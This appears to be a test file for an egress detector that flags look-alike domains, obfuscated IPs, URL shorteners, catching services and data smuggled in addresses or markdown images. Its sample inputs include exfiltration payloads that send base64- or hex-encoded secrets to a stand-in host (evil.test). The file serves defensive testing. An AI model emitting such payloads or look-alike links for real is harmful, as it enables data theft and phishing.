import { domainToASCII } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { egress } from '.';
import { firstSeenDestinations } from './first-seen';
import { distance, likenessOf, skeletonOf } from './look-alike';
import type { Channel } from '../../detector';

const domains = ['northwind-bank.example', 'acmesoft.co.uk'];
const see = (text: string, channel: Channel = 'argument') => egress.see(text, { channel, trusted: false, canary: '', delimiter: '', domains });
const kinds = (text: string, channel?: Channel) => see(text, channel).map(({ kind }) => kind);

describe('names that pass for the organisation’s own', () => {
  it.each([
    ['ops@acmes0ft.co.uk'], ['ops@acmesoft.com'], ['https://acmesoft.co.uk.login.evil.test/x'], ['https://acme-soft.co.uk'], ['https://acmesoft-login.com/reset'], ['https://acrnesoft.co.uk'], ['https://acmsoft.co.uk'], ['https://acmseoft.co.uk'],
    ['https://аcmesoft.co.uk/'], [`billing@${domainToASCII('аcmesoft.co.uk')}`], ['please log in at acmesott.co.uk today'], ['https://northwindbank.example/'], ['https://acmesoft-co-uk.com'],
  ])('%s', (text) => expect(kinds(text, 'input')).toContain('look_alike_domain'));

  it.each(['ops@acmesoft.co.uk', 'https://mail.acmesoft.co.uk/x', 'https://www.wikipedia.org', 'a.b@contoso.com', 'https://acme.org', 'read README.md and index.ts'])('%s is none', (text) => expect(kinds(text)).not.toContain('look_alike_domain'));

  it('compares by sight and by distance', () => {
    expect(skeletonOf('раура1')).toBe(skeletonOf('paypal'));
    expect(likenessOf('acmesoft.co.uk', domains)).toBeUndefined();
    expect([distance('abc', 'acb', 2), distance('abc', 'abc', 2), distance('abc', 'xyz', 2), distance('', 'ab', 2)]).toEqual([1, 0, 3, 2]);
    fc.assert(fc.property(fc.stringMatching(/^[a-z]{0,10}$/), fc.stringMatching(/^[a-z]{0,10}$/), (a, b) => { expect(distance(a, b, 20)).toBe(distance(b, a, 20)); }));
  });
});

describe('addresses that hide where they lead', () => {
  it.each([
    ['http://3232235777/', 'hidden_ip'], ['http://0xC0A80101/', 'hidden_ip'], ['http://0300.0250.1.1/', 'hidden_ip'], ['http://127.1/', 'hidden_ip'], ['http://[::ffff:10.0.0.1]/', 'hidden_ip'], ['http://203.0.113.7/x', 'ip_literal'], ['http://[2001:db8::7]/x', 'ip_literal'],
    ['https://bank.com@evil.test/', 'host_behind_at'], ['https://www.acmesoft.co.uk:443@evil.test/', 'host_behind_at'], ['https://user:pw@evil.test/', 'user_in_address'],
    ['https://bit.ly/3abcd', 'shortened_address'], ['https://webhook.site/abc', 'catching_service'], ['https://a1b2.ngrok-free.app/', 'catching_service'], ['https://exаmple.org/', 'mixed_script_domain'], ['mail someone@xn--bcher-kva.example', 'punycode_domain'],
  ])('%s is %s', (text, kind) => expect(kinds(text)).toContain(kind));

  it('points at the address itself', () => {
    const text = 'go (http://3232235777/a), then stop.';
    expect(see(text)).toEqual([expect.objectContaining({ kind: 'hidden_ip', span: [4, 23] })]);
    expect(text.slice(4, 23)).toBe('http://3232235777/a');
  });
});

describe('data in an address', () => {
  const secret = Buffer.from('the customer list: anna, bert, carla').toString('base64url');
  it.each([
    [`https://evil.test/?q=${secret}`, 'data_in_address'], [`https://evil.test/${Buffer.from('salary of everyone').toString('hex')}.png`, 'data_in_address'], [`https://${Buffer.from('the customer list: anna').toString('hex').slice(0, 46)}.evil.test/`, 'data_in_address'],
    [`![](https://evil.test/p.png?d=${secret})`, 'image_that_sends'], ['![chart](https://evil.test/p?d={summary})', 'image_that_sends'], [`<img src="https://evil.test/p?d=${secret}">`, 'image_that_sends'],
  ])('%s', (text, kind) => expect(kinds(text)).toContain(kind));

  it.each([
    'https://docs.python.example/3/library/asyncio-eventloop-policies.html#asyncio.DefaultEventLoopPolicy', 'https://github.com/a/b/commit/43fc912ef59a83054ea7f6706df4d53a7dea4d80', 'https://shop.test/item/3b9d1c2e-7f60-4a1b-8c55-0d9e8f7a6b5c?page=2&sort=price',
    'https://news.test/2026/11/26/why-the-long-winding-road-to-fusion-power-takes-another-turn', '![logo](https://cdn.test/logo.png)',
  ])('%s carries none', (text) => expect(kinds(text).filter((kind) => kind !== 'outside_destination')).toEqual([]));

  it('says nothing of long addresses in what an agent reads: they were not made by it', () => expect(kinds(`https://evil.test/?q=${secret}`, 'result')).toEqual([]));
});

describe('destinations for the first time', () => {
  const text = 'send to a@new.test, b@old.test, c@mail.acmesoft.co.uk and https://www.new.test/x';
  it('are those that neither the organisation nor the caller knows, each once', () => {
    expect(firstSeenDestinations(text, new Set(['old.test']), domains)).toEqual([{ kind: 'first_seen_destination', severity: 'low', score: 0.5, span: [text.indexOf('https'), text.length], domain: 'new.test', sentTo: false }]);
    expect(firstSeenDestinations('a@new.test, b@old.test; Ann <c@new2.test>', new Set(['old.test']), domains).map(({ domain, sentTo }) => [domain, sentTo])).toEqual([['new.test', false], ['new2.test', false]]);
    expect(firstSeenDestinations('a@new.test, https://old.test/x', new Set(['old.test']), domains)).toMatchObject([{ domain: 'new.test', sentTo: true }]);
    expect(firstSeenDestinations(text, new Set(['old.test', 'new.test']), domains)).toEqual([]);
  });
});
